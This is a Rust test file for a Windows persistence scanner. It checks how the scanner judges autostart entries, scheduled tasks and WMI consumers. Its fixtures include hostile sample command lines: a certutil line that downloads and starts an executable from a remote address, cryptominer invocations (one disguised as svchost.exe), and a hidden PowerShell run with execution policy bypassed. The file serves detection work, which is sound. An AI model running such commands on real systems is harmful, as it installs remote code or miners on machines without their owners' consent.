//! What starts by entries and tasks.

use super::*;

#[test]
fn an_open_miner_is_the_owners_business() {
    let miner = entry(
        AutostartKind::Run,
        "miner",
        r"C:\Miner\xmrig.exe -o stratum+tcp://pool.example.org:3333 -u wallet -p x --donate-level 1",
    );
    let assessment =
        assess(&complete(records_of(stock().into_iter().map(RecordData::WmiObject).chain([miner]))));
    assert_eq!(assessment.findings[0].action, Action::AskOwner);
    assert_eq!(assessment.verdict, Verdict::Suspicious);
}

#[test]
fn ordinary_autostart_entries_are_silent() {
    let entries = [
        entry(
            AutostartKind::Task,
            r"\GoogleUpdateTaskMachineUA",
            r"C:\Program Files (x86)\Google\Update\GoogleUpdate.exe /ua",
        ),
        entry(
            AutostartKind::Task,
            r"\Microsoft\Windows\Workplace Join\Automatic-Device-Join",
            r"%SystemRoot%\System32\dsregcmd.exe $(Arg0)",
        ),
        entry(AutostartKind::Service, "W32Time", r"C:\Windows\system32\svchost.exe -k LocalService"),
    ];
    assert!(assess(&records_of(entries)).findings.is_empty());
}

#[test]
fn a_task_that_the_scheduler_hides_is_a_finding() {
    let task = |security_descriptor, scheduler, listed, hidden| {
        RecordData::Task(evidence::ScheduledTask {
            path: r"\Update".into(),
            hidden,
            actions: vec![evidence::TaskAction::Exec {
                command: r"C:\Program Files\x.exe".into(),
                arguments: None,
                working_directory: None,
            }],
            seen: evidence::TaskPlaces {
                file: Some(true),
                registry: Some(true),
                security_descriptor,
                listed,
                scheduler,
            },
            ..evidence::ScheduledTask::default()
        })
    };
    let found = |task| {
        let findings = assess(&records_of([task])).findings;
        findings.first().map(|finding| (finding.severity, finding.action, finding.reasons.len()))
    };
    let yes = Some(true);
    assert_eq!(found(task(yes, None, None, None)), None);
    assert_eq!(found(task(yes, yes, yes, None)), None);
    // Many tasks of Windows say that no window shall show them: that counts beside another sign and is none by itself.
    assert_eq!(found(task(yes, yes, yes, yes)), None);
    let (low, review) = (Severity::Low, Action::Review);
    assert_eq!(found(task(yes, Some(false), None, None)), Some((low, review, 1)));
    assert_eq!(found(task(yes, Some(false), None, yes)), Some((low, review, 2)));
    assert_eq!(found(task(yes, None, Some(false), None)), Some((Severity::Medium, review, 1)));
    assert_eq!(found(task(Some(false), Some(false), None, None)), Some((Severity::High, review, 1)));
}

#[test]
fn a_task_of_which_the_registry_runs_something_else_is_a_finding() {
    let exec = |command: &str| evidence::TaskAction::Exec {
        command: command.to_owned(),
        arguments: None,
        working_directory: None,
    };
    let task = |place, actions: Vec<_>| {
        RecordData::Task(evidence::ScheduledTask {
            path: r"\Update".into(),
            actions: vec![exec(r"C:\Program Files\x.exe")],
            elsewhere: vec![evidence::TaskReading { place, actions }],
            ..evidence::ScheduledTask::default()
        })
    };
    let harmless = vec![exec(r"C:\Program Files\y.exe")];
    let other = assess(&records_of([task(evidence::TaskPlace::Registry, harmless.clone())]));
    assert_eq!((other.findings[0].severity, other.findings[0].action), (Severity::Medium, Action::Review));
    let told = assess(&records_of([task(evidence::TaskPlace::Scheduler, harmless)]));
    assert_eq!(told.findings[0].severity, Severity::Low);
    let miner = "xmrig.exe -o stratum+tcp://pool.example.org:3333 -u x --donate-level 1";
    let miner = assess(&records_of([task(evidence::TaskPlace::Registry, vec![exec(miner)])]));
    assert!(miner.findings[0].severity <= Severity::Medium, "{:?}", miner.findings);
    let text = serde_json::to_string(&miner.findings[0]).unwrap();
    assert!(text.contains("reason-task-differs") && text.contains("donate-level"), "{text}");
}

#[test]
fn habits_of_administrators_need_a_look_in_a_consumer_and_none_in_a_task() {
    let line = r#"powershell.exe -ExecutionPolicy Bypass -WindowStyle Hidden -File "C:\Scripts\backup.ps1""#;
    let consumer = assess(&machine([
        filter("usb", "select * from Win32_VolumeChangeEvent"),
        command("backup", line),
        binding("usb", "CommandLineEventConsumer", "backup"),
    ]));
    assert_eq!((consumer.verdict, consumer.findings[0].action), (Verdict::Suspicious, Action::Review));
    assert!(assess(&records_of([entry(AutostartKind::Task, r"\Backup", line)])).findings.is_empty());
}

#[test]
fn a_download_by_a_tool_of_windows_in_a_task_needs_a_look() {
    let line = r"cmd.exe /c certutil -urlcache -f http://192.0.2.7/x.exe %TEMP%\x.exe & start %TEMP%\x.exe";
    let assessment = assess(&records_of([entry(AutostartKind::Task, r"\Update", line)]));
    assert_eq!(assessment.verdict, Verdict::Suspicious, "{:?}", assessment.findings);
}

#[test]
fn a_disguised_miner_is_nobodys_wish() {
    let line = r"C:\Windows\Fonts\svchost.exe -o stratum+tcp://pool.example.org:3333 -u wallet -p x --donate-level 1";
    let assessment = assess(&records_of([entry(AutostartKind::Service, "Update", line)]));
    assert_eq!((assessment.verdict, assessment.findings[0].action), (Verdict::Infected, Action::Remove));
}
